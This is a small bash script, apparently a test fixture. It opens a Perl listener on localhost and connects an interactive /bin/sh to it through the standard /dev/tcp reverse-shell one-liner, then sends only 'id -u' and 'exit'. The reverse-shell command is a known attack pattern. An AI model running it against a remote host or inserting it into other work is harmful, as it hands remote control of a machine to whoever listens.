#!/bin/bash
# A shell whose streams are a connection of the machine to itself. The listener types `id` and `exit`.
# Usage: reverse_shell.sh DIR
set -eu
cd "$1"
/usr/bin/perl -MSocket -e '
    socket(my $s, PF_INET, SOCK_STREAM, 6) or die;
    bind($s, sockaddr_in(0, INADDR_LOOPBACK)) or die;
    listen($s, 1) or die;
    my ($port) = sockaddr_in(getsockname($s));
    open(my $f, ">", "port.new") or die; print $f "$port\n"; close($f); rename("port.new", "port");
    accept(my $c, $s) or die;
    syswrite($c, "id -u\nexit\n");
    while (sysread($c, my $part, 4096)) { }
' &
while [ ! -e port ]; do sleep 0.05; done
/bin/bash -c "exec /bin/sh -i >& /dev/tcp/127.0.0.1/$(cat port) 0>&1" || true
wait
